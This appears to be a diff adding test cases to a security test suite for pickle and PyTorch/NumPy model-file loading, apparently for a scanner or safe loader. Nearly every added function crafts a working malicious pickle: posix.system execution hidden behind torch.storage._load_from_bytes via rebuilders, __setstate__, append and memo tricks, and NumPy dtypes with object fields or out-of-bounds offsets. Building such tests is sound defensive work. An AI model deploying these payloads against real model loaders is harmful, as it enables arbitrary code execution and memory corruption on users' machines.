@@ -821,3 +821,124 @@ def bytes_for_a_loader_that_nobody_knows(marker: str) -> bytes:
 def bytes_in_the_state_of_an_object(marker: str) -> bytes:
     made = name("project", "Net") + b")\x81}" + text("blob") + blob(payload(marker)) + b"sb"
     return b"\x80\x03" + made + STOP
+
+
+# --- A loader that is kept for something else to call --------------------------------------------
+
+_LOADER = name("torch.storage", "_load_from_bytes")
+_NAMESPACE = name("argparse", "Namespace") + b")\x81"
+
+
+def _text_payload(marker: str) -> bytes:
+    """Return a pickle of protocol 0, which looks like no pickle."""
+    return f"cposix\nsystem\n(S'{command(marker)}'\ntR.".encode()
+
+
+def _with_method(target: bytes, method: str) -> bytes:
+    return target + b"}" + text(method) + _LOADER + b"sb"
+
+
+@attack("calls by Python itself", "dangerous", proof="torch-pickle")
+def a_loader_that_a_rebuilder_calls(marker: str) -> bytes:
+    arguments = (_LOADER, name("torch", "Tensor"), blob(_text_payload(marker)) + b"\x85", b"N")
+    return b"\x80\x03" + call(name("torch._tensor", "_rebuild_from_type_v2"), *arguments) + STOP
+
+
+@attack("calls by Python itself", "dangerous", proof="torch-pickle")
+def a_loader_as_the_setstate_of_an_object(marker: str) -> bytes:
+    set_it = _with_method(_NAMESPACE, "__setstate__") + blob(_text_payload(marker)) + b"b"
+    return b"\x80\x03" + set_it + b"0}."
+
+
+@attack("calls by Python itself", "dangerous", suffix=".pth", proof="torch")
+def a_loader_as_the_setstate_of_a_dictionary(marker: str) -> bytes:
+    table = call(name("collections", "OrderedDict"))
+    set_it = _with_method(table, "__setstate__") + blob(payload(marker)) + b"b"
+    return torch_zip(state_dict(set_it))
+
+
+@attack("calls by Python itself", "dangerous", proof="torch-pickle")
+def a_loader_as_the_append_of_an_object(marker: str) -> bytes:
+    return b"\x80\x03" + _with_method(_NAMESPACE, "append") + blob(_text_payload(marker)) + b"a."
+
+
+@attack("calls by Python itself", "dangerous", proof="torch-pickle")
+def a_loader_from_the_memo_that_was_called_before(marker: str) -> bytes:
+    first = _LOADER + b"q\x01" + blob(legacy_stream(root=b"\x80\x02N.")) + b"\x85R0"
+    kept = _NAMESPACE + b"}" + text("append") + b"h\x01sb"
+    return b"\x80\x03" + first + kept + blob(_text_payload(marker)) + b"a."
+
+
+@attack("calls by Python itself", "dangerous", proof="torch-pickle")
+def a_loader_that_is_doubled(marker: str) -> bytes:
+    twice = text("append") + _LOADER + b"2" + blob(legacy_stream(root=b"\x80\x02N."))
+    return (
+        b"\x80\x03" + _NAMESPACE + b"}" + twice + b"\x85R0sb" + blob(_text_payload(marker)) + b"a."
+    )
+
+
+# --- Dtypes that make addresses of numbers -------------------------------------------------------
+
+
+def _dtype(code: str, size: int, flags: int, fields: bytes = b"NN") -> bytes:
+    made = call(name("numpy", "dtype"), text(code), b"\x89", b"\x88")
+    sizes = 2 * (b"J" + size.to_bytes(4, "little", signed=True))
+    return made + b"(K\x03" + text("|") + b"N" + fields + sizes + b"K" + bytes([flags]) + b"tb"
+
+
+def _array(dtype: bytes, after: bytes = b"") -> bytes:
+    arguments = (name("numpy", "ndarray"), b"K\x00\x85", blob(b"b"))
+    made = call(name("numpy._core.multiarray", "_reconstruct"), *arguments)
+    state = b"(K\x01K\x01\x85" + dtype + b"\x89" + blob(b"A" * 8) + b"tb"
+    return b"\x80\x03" + made + state + after + STOP
+
+
+def _fields(dtype: bytes, offset: int) -> bytes:
+    """Return the names and the fields of a record of one field; the fields go to the memo."""
+    field = dtype + b"J" + u4(offset) + b"\x86"
+    return text("a") + b"\x85" + b"}q\x08" + text("a") + field + b"s"
+
+
+_FLOAT = call(name("numpy", "dtype"), text("f8"), b"\x89", b"\x88") + (
+    b"(K\x03" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
+)
+
+
+@attack("NumPy dtypes", "dangerous")
+def objects_that_are_called_numbers(marker: str) -> bytes:
+    return _array(_dtype("O8", -1, 0))
+
+
+@attack("NumPy dtypes", "dangerous")
+def a_dtype_that_grows_when_an_array_has_it(marker: str) -> bytes:
+    dtype = _dtype("S8", 8, 0) + b"q\x07"
+    larger = b"h\x07" + _dtype("S8", 1 << 24, 0).partition(b"R")[2] + b"0"
+    return _array(dtype, larger)
+
+
+@attack("NumPy dtypes", "dangerous")
+def a_field_behind_its_record(marker: str) -> bytes:
+    return _array(_dtype("V8", 8, 16, _fields(_FLOAT, 1 << 24)))
+
+
+@attack("NumPy dtypes", "dangerous")
+def a_field_of_objects_that_are_called_numbers(marker: str) -> bytes:
+    return _array(_dtype("V8", 8, 16, _fields(_dtype("O8", -1, 63), 0)))
+
+
+@attack("NumPy dtypes", "dangerous")
+def a_field_that_is_moved_afterwards(marker: str) -> bytes:
+    moved = b"h\x08" + text("a") + _FLOAT + b"J" + u4(1 << 24) + b"\x86s0"
+    return _array(_dtype("V8", 8, 16, _fields(_FLOAT, 0)), moved)
+
+
+@attack("NumPy dtypes", "needs-trust")
+def a_record_with_an_object(marker: str) -> bytes:
+    made = call(name("numpy", "dtype"), text("V8"), b"\x89", b"\x88")
+    fields = _fields(_dtype("O8", -1, 63), 0)
+    return b"\x80\x03" + made + b"(K\x03" + text("|") + b"N" + fields + b"K\x08K\x01K\x1btb."
+
+
+@attack("NumPy dtypes", "dangerous")
+def objects_under_another_name(marker: str) -> bytes:
+    return _array(_dtype("object", -1, 0))
